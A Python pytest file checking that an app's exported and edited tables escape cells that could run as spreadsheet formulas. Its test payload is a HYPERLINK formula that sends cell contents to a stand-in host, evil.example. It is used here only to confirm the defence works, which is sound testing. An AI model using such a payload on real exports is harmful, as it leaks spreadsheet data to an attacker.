"""What is downloaded from a page's tables holds no formula of a stranger's."""

from __future__ import annotations

import pandas as pd
import pytest

from pages.components.registry import version_edit
from pages.components.shared.escape import from_table, in_table
from phi3core import tags
from phi3core.access.roles import Person
from phi3core.promotion.promote import promote
from phi3core.settings import Settings
from tests.app.conftest import Open
from tests.support import fakes

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"Error")'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1"])
def test_a_cell_that_could_be_a_formula_is_none(text: str) -> None:
    cell = in_table(text)
    assert cell.lstrip()[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert from_table(cell) == text


@pytest.mark.parametrize("text", ["", "phi3/1", "–", "a=b"])
def test_any_other_cell_is_left_alone(text: str) -> None:
    assert in_table(text) == text


@pytest.mark.parametrize(("page", "query"), [("promotions", {"view": "record"}), ("registry", {})])
def test_no_cell_of_a_table_is_a_formula(open_page: Open, settings: Settings, page: str, query: dict[str, str]) -> None:
    written = dict.fromkeys((tags.WRAPPER, tags.PRECISION, tags.USER), FORMULA)
    fakes.register(settings, tags=written)
    promote(settings, "phi3/1", "Archived", FORMULA, Person(FORMULA, "admin"))
    cells = [str(cell) for table in open_page(page, **query).dataframe for cell in table.value.to_numpy().flatten()]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_what_is_edited_in_a_table_is_what_was_written() -> None:
    edited = pd.DataFrame({"Tag": ["note"], "Value": [in_table(FORMULA)]})
    assert version_edit.read(edited) == ({"note": FORMULA}, "")
